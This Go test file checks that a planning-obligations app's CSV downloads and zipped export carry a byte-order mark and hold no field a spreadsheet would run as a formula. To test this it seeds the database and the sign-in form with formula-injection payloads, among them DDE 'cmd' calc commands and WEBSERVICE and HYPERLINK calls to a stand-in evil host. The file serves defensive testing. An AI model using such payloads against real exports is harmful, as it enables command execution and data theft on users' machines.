package web

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"github.com/s106monitor/s106/internal/csvtext"
	"github.com/s106monitor/s106/internal/seed"
	"github.com/s106monitor/s106/internal/users"
	"github.com/s106monitor/s106/templates"
)

// formulaStart is what a spreadsheet would run: = + @, a tab or carriage
// return first, or a minus that does not start a plain number.
var plainNumberCSV = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)

func looksLikeFormula(s string) bool {
	if s == "" {
		return false
	}
	switch s[0] {
	case '=', '+', '@', '\t', '\r':
		return true
	case '-':
		return !plainNumberCSV.MatchString(s)
	}
	return false
}

// checkCSV fails the test unless data starts with the byte-order mark and
// no field could run as a formula.
func checkCSV(t *testing.T, name string, data []byte) {
	t.Helper()
	if !bytes.HasPrefix(data, []byte(csvtext.BOM)) {
		t.Errorf("%s: no UTF-8 byte-order mark", name)
	}
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte(csvtext.BOM))))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Errorf("%s: not CSV: %v", name, err)
		return
	}
	for i, rec := range recs {
		for j, f := range rec {
			if looksLikeFormula(f) {
				t.Errorf("%s row %d column %d: %q would run as a formula", name, i+1, j+1, f)
			}
		}
	}
}

// Every CSV the product writes, on every download route and in every file
// of the export, starts with the byte-order mark and holds no formula,
// whatever officers typed or an anonymous visitor put in the sign-in box.
func TestEveryCSVDownloadIsSafe(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	app := newTestApp(t)
	if _, err := seed.Demo(ctx, app.DB); err != nil {
		t.Fatal(err)
	}
	for _, stmt := range []string{
		`UPDATE developments SET name = '=HYPERLINK("http://evil.example","Mill")', notes = '+1+1' WHERE id = (SELECT min(id) FROM developments)`,
		`UPDATE agreements SET notes = '@SUM(A1:A9)' WHERE id IN (SELECT min(id) FROM agreements)`,
		`UPDATE obligations SET description = '-2+3+cmd|'' /C calc''!A0', contact_name = '=1+1' WHERE id IN (SELECT id FROM obligations ORDER BY id LIMIT 3)`,
		`INSERT INTO audit_events (actor_label, action, entity_type, entity_id, summary) VALUES ('=cmd|'' /C calc''!A0', 'x.y', 'thing', '1', '-1+1')`,
		`UPDATE projects SET name = '=WEBSERVICE("http://evil.example/' || id || '")' WHERE id IN (SELECT id FROM projects ORDER BY id LIMIT 3)`,
	} {
		if _, err := app.DB.Pool.Exec(ctx, stmt); err != nil {
			t.Fatalf("%s: %v", stmt, err)
		}
	}
	ts := newTestServer(t, app)
	// An anonymous visitor types a formula as the sign-in address: it lands
	// in the security log (not exported; administrators only).
	res := ts.post(t, "/login", url.Values{"email": {"=cmd|' /C calc'!A0@evil.example"}, "password": {"not the password"}})
	if res.status != http.StatusUnprocessableEntity {
		t.Fatalf("failed sign-in: status %d", res.status)
	}
	addUser(t, app.DB, "csvadmin@council.example", users.RoleAdmin, users.RoleOfficer, users.RoleManager, users.RoleHousing)
	ts.login(t, "csvadmin@council.example", testPassword)

	var paths []string
	for _, m := range regexp.MustCompile(`Get\("(/[^"{*]*\.(csv|zip))"`).FindAllStringSubmatch(readFile(t, "routes.go"), -1) {
		paths = append(paths, m[1])
	}
	for _, f := range templates.PublicDataFiles() {
		paths = append(paths, "/public/data/"+f.Name)
	}
	paths = append(paths, "/ifs/2024/statement.csv", "/data-standard/developer-agreement.csv",
		"/data-standard/developer-agreement-contribution.csv", "/data-standard/developer-agreement-transaction.csv")
	if len(paths) < 20 {
		t.Fatalf("only %d downloads found: %v", len(paths), paths)
	}
	csvFiles := 0
	for _, path := range paths {
		raw := ts.getRaw(t, path)
		if raw.status != http.StatusOK {
			t.Errorf("GET %s: status %d", path, raw.status)
			continue
		}
		if !strings.HasSuffix(path, ".zip") {
			checkCSV(t, path, raw.body)
			csvFiles++
			continue
		}
		zr, err := zip.NewReader(bytes.NewReader(raw.body), int64(len(raw.body)))
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		for _, f := range zr.File {
			if !strings.HasSuffix(f.Name, ".csv") {
				continue
			}
			rc, _ := f.Open()
			b, _ := io.ReadAll(rc)
			rc.Close()
			checkCSV(t, path+"/"+f.Name, b)
			csvFiles++
			if f.Name == "audit.csv" && !bytes.Contains(b, []byte("'=cmd|")) {
				t.Errorf("the export's audit log does not hold the formula-like actor, made safe")
			}
		}
	}
	if csvFiles < 25 {
		t.Errorf("checked only %d CSV files", csvFiles)
	}
}

type rawResponse struct {
	status int
	body   []byte
}

// getRaw is get without any change to the body (get strips the mark).
func (ts *testServer) getRaw(t *testing.T, path string) rawResponse {
	t.Helper()
	res, err := ts.client.Get(ts.URL + path)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return rawResponse{res.StatusCode, b}
}
